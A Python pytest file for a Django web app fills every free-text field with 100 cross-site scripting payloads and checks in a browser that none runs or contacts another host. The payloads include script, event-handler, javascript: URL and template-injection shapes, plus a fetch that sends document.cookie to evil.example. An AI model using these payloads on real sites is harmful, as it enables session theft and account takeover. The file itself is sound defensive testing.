"""A hundred ways to smuggle a script into every text that a person, a file or a model writes: none runs."""

import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse

from accounts.crypto import EncryptedFloatField, EncryptedJSONField, EncryptedTextField
from annotations.labels.actions import submit_label
from bank.models import Capability, Sample, Upload
from tests.access.test_routes import TABLE
from tests.access.world import PUBLIC, routes
from tests.browser.conftest import opened
from tests.hidden import change

pytestmark = pytest.mark.django_db(transaction=True)
RUN = ("xss()", "window.parent.xss()", "top['x'+'ss']()", "fetch('//evil.example/'+document.cookie)")
SHAPES = """<script>{}</script>
"><script>{}</script>
</textarea></title></style></script><script>{}</script>
<img src=x onerror={}>
"><img src=//evil.example/x.png onerror="{}">
' autofocus onfocus='{}
" onmouseover="{}" style="position:fixed;inset:0" x="
<svg/onload={}>
<svg><animate onbegin={} attributeName=x dur=1s>
<details open ontoggle={}>
<body onload={}>
<iframe srcdoc="<script>{}</script>"></iframe>
<iframe src="javascript:{}"></iframe>
<a href="javascript:{}" id=go>click</a>
[link](javascript:{})
![picture](//evil.example/p.png "{}")
<math><mtext><table><mglyph><style><img src=x onerror={}>
$\\href{{javascript:{}}}{{x}}$
$$\\includegraphics{{//evil.example/{}}}$$
`<script>{}</script>`
```html
<script>{}</script>
```
{{{{constructor.constructor('{}')()}}}}
<form action=//evil.example><button formaction="javascript:{}">x</button></form>
<base href=//evil.example/><meta http-equiv=refresh content="0;url=javascript:{}">
<div hx-get="//evil.example/{}" hx-trigger="load" hx-on:load="{}"></div>"""
# The three lines of a fence are one shape.
LISTED = SHAPES.replace("```html\n", "```html~").replace("</script>\n```", "</script>~```").splitlines()
PAYLOADS = [
    shape.replace("~", "\n").replace("{{", "{").replace("}}", "}").replace("{}", run) for shape in LISTED for run in RUN
]
# Words of the program's own, by which code finds its way; nobody writes them.
OURS = {
    *("username", "password", "email", "protocol", "template", "order", "base_url", "baseline", "key_env", "origin"),
    *("settings_hash", "items_hash", "idempotency_key", "variant", "format", "source_format", "folder", "secret"),
}
# In the query of an address of ours a payload is a search like any other.
CHECK = """() => { const hostOf = (value) => { try { return new URL(value, location).host } catch { return value } };
  return [...document.querySelectorAll('*')].filter((e) =>
  [...e.attributes].some((a) => /^on/.test(a.name) || /^\\s*(javascript|data:text)/i.test(a.value)
    || (/^(src|href|action|formaction|hx-get|data)$/.test(a.name) && /evil\\.example/.test(hostOf(a.value))))
  || ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'ANIMATE'].includes(e.tagName)
  || (e.tagName === 'SCRIPT' && e.type !== 'application/json'
    && !new URL(e.src || '/x', location).pathname.startsWith('/static/'))
).map((e) => e.outerHTML.slice(0, 200)) }"""


def fill():
    """Put payloads into every column of text."""
    place = 0
    for model in apps.get_models():
        if model._meta.app_label not in ("bank", "judging", "annotations"):
            continue
        for field in model._meta.local_concrete_fields:
            free = (
                isinstance(field, models.CharField | models.TextField) and not field.choices and not field.primary_key
            )
            known = isinstance(field, models.SlugField | models.URLField) or field.name in OURS
            known = known or (model.__name__, field.name) == (
                "PromptTemplate",
                "name",
            )  # letters, digits, - and _ alone
            if isinstance(field, EncryptedFloatField | EncryptedJSONField):
                continue
            if not free or known or field.name.endswith(("sha256", "_hash", "version", "kind")):
                continue
            for row in model._base_manager.only("pk"):
                place += 1
                if field.max_length:
                    fits = [one for one in PAYLOADS if len(one) <= field.max_length - 8]
                    text = fits[place % len(fits)] + str(row.pk) if fits else None
                else:
                    start = place % len(PAYLOADS)
                    text = "\n\n".join(PAYLOADS[start:] + PAYLOADS[:start])
                if text and isinstance(field, EncryptedTextField) and field.row:
                    if model.__name__ != "CriterionRevision":
                        change(model._base_manager.filter(pk=row.pk), **{field.name: text})
                elif text:
                    model._base_manager.filter(pk=row.pk).update(**{field.name: text})
    for upload in Upload.objects.all():  # what its file says
        for sample in upload.shown["preview"]:
            payload = "\n\n".join(PAYLOADS)
            sample |= {"key": payload, "instruction": payload, "hint": payload, "options": {payload: payload}}
        upload.save(update_fields=["shown"])
    Capability.objects.update(path=models.F("name"))  # a path is made of names
    Sample.objects.update(options={"A": PAYLOADS[0], PAYLOADS[3]: PAYLOADS[4]}, metadata={PAYLOADS[0]: PAYLOADS[1]})


def addresses(world, role):
    for name, route, _ in routes():
        arguments = world.arguments(route, PUBLIC)
        if role in TABLE.get(name, ()) and not route.startswith("api/v1/") and "image" not in name:
            yield name, reverse(name, kwargs=arguments)


def test_there_are_a_hundred():
    assert len(PAYLOADS) == 100


@pytest.mark.check("D4")
def test_no_script_runs_and_nothing_is_asked_of_another_host(world, people, live_server, browser, sign_in, faults):
    submit_label(
        assignment=world.assignments[PUBLIC],
        verdict={"choice": "left"},
        now=world.assignments[PUBLIC].leased_at,
        idempotency_key="k",
        comment="x",
        flags=["y"],
    )
    fill()
    outside, seen = [], 0
    for role, only in (("administrator", ""), ("annotator", "annotations:")):
        context = browser.new_context(viewport={"width": 1440, "height": 900})
        sign_in(context, people[role])
        page = context.new_page()
        complaints = faults(page)
        page.on("request", lambda one: outside.append(one.url) if not one.url.startswith(live_server.url) else None)
        page.on("dialog", lambda dialog: dialog.dismiss())
        page.expose_function("xss", lambda: outside.append("a script ran"))
        for name, path in addresses(world, role):
            if not name.startswith(only):
                continue
            before = len(complaints)
            answer = opened(page, live_server.url + path)
            assert answer is None or answer.status < 500, name
            if answer is None or not answer.ok or not answer.headers["content-type"].startswith("text/html"):
                del complaints[before:]  # of the browser: about a refusal, or an image by itself
                continue
            assert page.evaluate(CHECK) == [], name
            assert [line for line in complaints if "katex" not in line.lower()] == [], name
            seen += 1
        context.close()
    assert outside == []
    assert seen > 20
